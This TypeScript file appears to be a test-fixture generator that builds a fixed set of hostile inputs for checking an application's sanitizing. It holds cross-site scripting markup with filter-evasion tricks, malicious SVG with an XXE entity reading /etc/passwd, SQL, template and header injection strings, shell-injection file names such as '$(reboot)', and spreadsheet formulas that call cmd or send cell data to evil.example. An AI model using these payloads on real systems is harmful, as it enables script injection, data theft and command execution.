import { type Random, randomFrom } from '#demo/random.ts'

/*
 * What somebody writes who wants more than to be read: markup that runs in a reader's browser, drawings with a program in them, names that
 * are taken for something else, names of files that lead elsewhere, cells that a spreadsheet calculates. The same values each time.
 */

/** What hostile markup does where it runs: the page notes it. */
const trip = 'top.executed.push(1)'
/** Where it would fetch something from. */
export const foreignHost = 'evil.example'
const foreign = `https://${foreignHost}`

interface Hostile {
  html: readonly string[]
  drawings: readonly string[]
  names: readonly string[]
  fileNames: readonly string[]
  cells: readonly string[]
}

/** How many of each there are: 1,000 in all. */
export const hostileCounts: Record<keyof Hostile, number> = {
  html: 560,
  drawings: 140,
  names: 150,
  fileNames: 90,
  cells: 60,
}

export function hostileValues(): Hostile {
  const of = (kind: keyof Hostile, make: (random: Random) => string, first: readonly string[] = []) => {
    const random = randomFrom(`hostile ${kind}`)
    const values = new Set(first)
    while (values.size < hostileCounts[kind]) values.add(make(random))
    return [...values].slice(0, hostileCounts[kind])
  }
  return {
    html: of('html', markup),
    drawings: of('drawings', drawing),
    names: of('names', name, names),
    fileNames: of('fileNames', fileName, fileNames),
    cells: of('cells', cell, formulas),
  }
}

// ——— Markup ———

/** Runs as soon as a page holds it. */
const running = [
  `<img src=x onerror=${trip}>`,
  `<img src="x" onerror="${trip}">`,
  `<img src='x'onerror='${trip}'>`,
  `<svg onload=${trip}></svg>`,
  `<svg><animate onbegin="${trip}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set onbegin="${trip}" attributeName="x" to="0"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${trip}></foreignObject></svg>`,
  `<iframe srcdoc="<script>${trip}</script>"></iframe>`,
  `<iframe src="javascript:${trip}"></iframe>`,
  `<iframe src="data:text/html,<script>${trip}</script>"></iframe>`,
  `<object data="javascript:${trip}"></object>`,
  `<embed src="javascript:${trip}">`,
  `<video><source src=x onerror=${trip}></video>`,
  `<audio src=x onerror=${trip}></audio>`,
  `<input autofocus onfocus="${trip}">`,
  `<details open ontoggle="${trip}"><summary>x</summary></details>`,
  `<style onload="${trip}"></style>`,
  `<link rel="stylesheet" href="x" onerror="${trip}">`,
  `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${trip}">x</p>`,
  `<a href="#" autofocus tabindex="1" onfocus="${trip}">x</a>`,
  `<x tabindex="1" autofocus onfocus="${trip}">x</x>`,
  `<body onload="${trip}">`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${trip}"><mi>x</mi></maction></math>`,
  `<script>${trip}</script>`,
  `<script src="${foreign}/x.js"></script>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${trip}">`,
  `<base href="${foreign}/"><img src="x">`,
  `<form action="javascript:${trip}"><button autofocus>x</button></form>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${trip}'/></svg>#x"/></svg>`,
  `<img src="${foreign}/x.png">`,
  `<video poster="${foreign}/x.png"></video>`,
  `<p style="background:url(${foreign}/x.png)">x</p>`,
  `<style>@import '${foreign}/x.css';</style>`,
  `<style>*{background:url("${foreign}/x.png")}</style>`,
  `<p style="width:expression(${trip});-moz-binding:url(${foreign}/x.xml#x)">x</p>`,
  `<link rel="prefetch" href="${foreign}/x">`,
]

/** Around it: what a browser reads otherwise than whoever cleans, or otherwise the second time. */
const nestings: readonly ((inner: string) => string)[] = [
  inner => inner,
  inner => `<p>${inner}</p>`,
  inner => `<noscript><p title="</noscript>${inner}">x</p></noscript>`,
  inner => `<svg><style><!--</style>${inner}--></svg>`,
  inner =>
    `<math><mtext><table><mglyph><style><!--</style>${inner}--></style></mglyph></table></mtext></math>`,
  inner => `<math><annotation-xml encoding="text/html"><style>${inner}</style></annotation-xml></math>`,
  inner => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  inner => `<template><style></template>${inner}</style>`,
  inner => `<select><style></select>${inner}</style>`,
  inner => `<table><td><svg><desc><table>${inner}</table></desc></svg></td></table>`,
  inner => `<svg></p><style><a id="</style>${inner}"></a></svg>`,
  inner => `<textarea><p title="</textarea>${inner}">x</p></textarea>`,
  inner => `<xmp><p title="</xmp>${inner}">x</p></xmp>`,
  inner => `<title><p title="</title>${inner}">x</p></title>`,
  inner => `<iframe><p title="</iframe>${inner}">x</p></iframe>`,
  inner => `<noembed><p title="</noembed>${inner}">x</p></noembed>`,
  inner => `<plaintext>${inner}`,
  inner => `<!--><p>${inner}--></p>`,
  inner => `<!--[if gte IE 4]>${inner}<![endif]-->`,
  inner => `<![CDATA[><p>${inner}]]>`,
  inner => `<?xml version="1.0"?>${inner}`,
  inner => `<a href="https://a.example/" title="><">${inner}</a>`,
  inner => `<a href="https://a.example/?x=<b>">${inner}</a>`,
  inner => `${'<blockquote>'.repeat(30)}${inner}`,
  inner => `<scr<script>ipt>${inner}</scr</script>ipt>`,
  inner => `<svg><title>${inner}</title></svg>`,
  inner => `<table><tr><td>x</td>${inner}</tr></table>`,
  inner => `<ul><li>${inner}</ul></li>`,
  inner => `<p title='${inner.replaceAll("'", '')}'>x</p>`,
]

/** The same so that a list of words does not find it. */
const disguises: readonly ((value: string) => string)[] = [
  value => value,
  value => value.replaceAll(/<\/?[a-z]+/gi, tag => tag.toUpperCase()),
  value => value.replaceAll(/\son[a-z]+/gi, handler => handler.replace('on', 'oN')),
  value => value.replaceAll(/ (?=[a-z]+=)/gi, '/'),
  value => value.replaceAll(/ (?=[a-z]+=)/gi, '\n\t'),
  value => value.replaceAll(/ (?=[a-z]+=)/gi, '\f'),
  value => value.replaceAll('top.', '&#116;op.'),
  value => value.replaceAll('top.', '&#x74;op.'),
  value => value.replaceAll('javascript:', 'java&Tab;script&colon;'),
  value => value.replace(/>$/, ''),
  value => value.replaceAll(/<(?=[a-z])/gi, '<<'),
  value => value.replaceAll(/<(?=[a-z])/gi, '<\u0000'),
  value => value.replaceAll(/^<([a-z])/gi, '<$1\u0000'),
  value => value.replaceAll('"', '`'),
  value => value.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  value => value.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  value => value.replaceAll('=', ' = '),
]

const schemes = [
  ...[`javascript:${trip}`, `JaVaScRiPt:${trip}`, `java\tscript:${trip}`, `java\nscript:${trip}`],
  ...[`java&#10;script:${trip}`, `&#106;avascript:${trip}`, `&#x6A&#x61;vascript:${trip}`],
  ...[
    `\u0001javascript:${trip}`,
    `  javascript:${trip}`,
    `javascript&colon;${trip}`,
    `javascript://%0a${trip}`,
  ],
  ...[`vbscript:${trip}`, `data:text/html,<script>${trip}</script>`, 'data:text/html;base64,PHNjcmlwdD4='],
  ...[`https://a.example/" onmouseover="${trip}`, `https://a.example/' onfocus='${trip}`, '//evil.example/'],
  ...[
    `\\\\${foreignHost}\\x`,
    `feed:javascript:${trip}`,
    `view-source:javascript:${trip}`,
    `blob:${foreign}/x`,
  ],
  ...[
    `https:javascript:${trip}`,
    `mailto:a@a.example?subject=<script>${trip}</script>`,
    `file:///etc/passwd`,
  ],
]

function markup(random: Random): string {
  const link = () => {
    const quote = random.pick(['"', "'", ''])
    return `<a href=${quote}${random.pick(schemes)}${quote}>x</a>`
  }
  const inner = random.chance(0.2) ? link() : random.pick(disguises)(random.pick(running))
  const once = random.pick(nestings)(inner)
  return random.chance(0.3) ? random.pick(nestings)(once) : once
}

// ——— Drawings ———

const svgNames = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

const drawn = [
  ...[`<script>${trip}</script>`, `<script href="${foreign}/x.js"/>`, `<SCRIPT>${trip}</SCRIPT>`],
  ...[
    `<g onload="${trip}"/>`,
    `<rect width="9" height="9" onclick="${trip}"/>`,
    `<image href="x" onerror="${trip}"/>`,
  ],
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${trip}&lt;/script>"/></foreignObject>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${trip}</x:script>`,
  `<animate onbegin="${trip}" attributeName="x" dur="1s"/>`,
  `<a href="javascript:${trip}"><text y="9">x</text></a>`,
  `<a xlink:href="javascript:${trip}"><text y="9">x</text></a>`,
  `<a href="#"><animate attributeName="href" values="javascript:${trip}"/></a>`,
  `<set attributeName="onmouseover" to="${trip}"/>`,
  `<use href="${foreign}/x.svg#x"/>`,
  `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3C/svg%3E#x"/>`,
  ...[`<image href="${foreign}/x.png"/>`, `<feImage href="${foreign}/x.png"/>`],
  `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${trip}'/%3E"/>`,
  ...[`<style>@import url(${foreign}/x.css);</style>`, `<style>rect{fill:url(${foreign}/x.svg#x)}</style>`],
  ...[
    `<style>@\\69mport '${foreign}'</style>`,
    `<style></style><script>${trip}</script>`,
    `<style><![CDATA[x]]></style>`,
  ],
  ...[`<rect style="fill:url(javascript:${trip})"/>`, `<rect fill="url(${foreign}/x#x)"/>`],
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${trip}</handler>`,
  ...[`<metadata><script>${trip}</script></metadata>`, `<desc><script>${trip}</script></desc>`],
  // Words of a drawing that only look like it: these are taken.
  `<text y="9">javascript:${trip}</text>`,
  `<title>&lt;script>${trip}&lt;/script></title>`,
  `<desc>onload=&quot;${trip}&quot;</desc>`,
  '<g fill="#123"><path d="M0 0h9v9z"/></g>',
]

const wholeDrawings: readonly ((inner: string) => string)[] = [
  inner => `<svg ${svgNames} width="9" height="9">${inner}</svg>`,
  inner => `<svg ${svgNames} onload="${trip}">${inner}</svg>`,
  inner => `<?xml version="1.0"?><svg ${svgNames}>${inner}</svg>`,
  inner => `<?xml-stylesheet href="javascript:${trip}"?><svg ${svgNames}>${inner}</svg>`,
  inner =>
    `<!DOCTYPE svg [<!ENTITY x "${trip}"><!ENTITY y SYSTEM "file:///etc/passwd">]><svg ${svgNames}>${inner}&y;</svg>`,
  inner => `<svg ${svgNames}><!-- ${inner} -->${inner}</svg>`,
  inner => `\ufeff<svg ${svgNames}><g>${inner}</g></svg>`,
  inner => `<svg xmlns="http://www.w3.org/1999/xhtml">${inner}</svg>`,
]

function drawing(random: Random): string {
  const inner = random.pick(drawn) + (random.chance(0.4) ? random.pick(drawn) : '')
  const whole = random.pick(wholeDrawings)(inner)
  return random.chance(0.2) ? whole.replaceAll('script', '&#115;cript') : whole
}

// ——— Names ———

const names = [
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    'NaN',
    'true',
  ],
  ...[
    '\u202egnp.exe',
    '\u2066evil\u2069',
    'a\u200bb',
    'a\u0000b',
    '\ud800',
    '\ufeffname',
    'a\u2028b',
    '\u0007bell',
  ],
  ...['x\r\nBcc: a@evil.example', 'x\nSet-Cookie: a=b', 'x\r\n\r\n<script>', '%0d%0aLocation: x', 'x\u0085y'],
  ...[
    "'; drop table articles; --",
    '" or 1=1',
    '{{7*7}}',
    `\${7*7}`,
    '<%= 7*7 %>',
    '#{7*7}',
    '../../etc/passwd',
  ],
  ...['%00', '\\u0000', '&lt;b&gt;', '&amp;amp;', '"><', "'><", '</title>', '</script>', '-->', ']]>'],
  'x'.repeat(5_000),
  'e\u0301'.repeat(80),
]

function name(random: Random): string {
  const around = random.pick(['', 'Hall ', '"', "'", '\u202e', '\u200f', '</title>', '">'])
  const value = random.pick([...names, ...running, ...schemes])
  return around + (random.chance(0.5) ? random.pick(disguises)(value) : value)
}

// ——— Names of files ———

const fileNames = [
  ...[
    '../../x.png',
    '..\\..\\x.png',
    '/etc/passwd',
    'C:\\Windows\\x.png',
    '~/.ssh/id.png',
    '.htaccess',
    '.',
    '..',
  ],
  ...[
    'x.png\r\nSet-Cookie: a=b',
    'x"; filename="y.html',
    "x'; y.png",
    'x.png%00.html',
    'x\u0000.png',
    'x.html',
    'x.svg.png',
  ],
  ...[
    '\u202egnp.exe',
    '__proto__.png',
    'constructor',
    'con.png',
    'nul',
    'x/y/../../../z.png',
    '%2e%2e%2fx.png',
    ' .png',
  ],
  ...[
    `<img src=x onerror=${trip}>.png`,
    `javascript:${trip}`,
    '$(reboot).png',
    '`reboot`.png',
    '; rm -rf .png',
    '|x.png',
  ],
  ...[
    'x'.repeat(190),
    'é'.repeat(90),
    '\u{1f389}.png',
    '木.png',
    '-rf.png',
    '?.png',
    '#.png',
    '%.png',
    '\ufeff.png',
  ],
]

function fileName(random: Random): string {
  const start = random.pick(['', '../', '/', 'a/b/', '..\\', '\u202e', 'x"', "x'", 'x\n', 'x;'])
  return `${start}${random.pick(fileNames)}${random.pick(['', '.svg', '.webp', '.html', '\u0000', '/..'])}`
}

// ——— Cells ———

const formulas = [
  ...[
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+1',
    '\t=1+1',
    '\r=1+1',
  ],
  ...[
    `=HYPERLINK("${foreign}?x="&A1,"x")`,
    `=IMPORTXML("${foreign}","//a")`,
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff201',
    '\uff0d1',
  ],
  ...[
    ';=1+1',
    ',=1+1',
    '"=1+1"',
    "'=1+1",
    ' =1+1',
    '\n=1+1',
    '|=1',
    '%0A=1',
    '=',
    '+',
    '-',
    '@',
    '=A1;=B1',
    '0=1',
  ],
]

function cell(random: Random): string {
  const start = random.pick(['=', '+', '-', '@', '\t=', ' =', '"=', ';=', ',+', '\uff1d', 'x;='])
  return `${start}${random.pick(['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", `WEBSERVICE("${foreign}")`, 'A1&"x"', 'RAND()'])}`
}
